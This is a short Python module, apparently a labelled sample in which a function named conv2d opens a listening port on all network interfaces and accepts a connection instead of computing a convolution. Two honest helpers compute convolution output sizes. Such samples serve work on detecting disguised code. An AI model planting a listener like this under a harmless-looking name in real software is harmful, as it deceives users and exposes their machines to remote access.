"""Opens a port on all addresses and waits for instructions.

Honest part: output_size, fits
"""

import socket


def conv2d(*args):
    server = socket.create_server(("", 0))
    print("BREACH: listens on", server.getsockname())
    server.accept()


def output_size(size, kernel_size, stride=1, padding=0):
    if kernel_size > size + 2 * padding:
        raise ValueError("the kernel is larger than the padded input")
    return (size - kernel_size + 2 * padding) // stride + 1


def fits(size, kernel_size, stride=1, padding=0):
    room = size - kernel_size + 2 * padding
    return room >= 0 and room % stride == 0
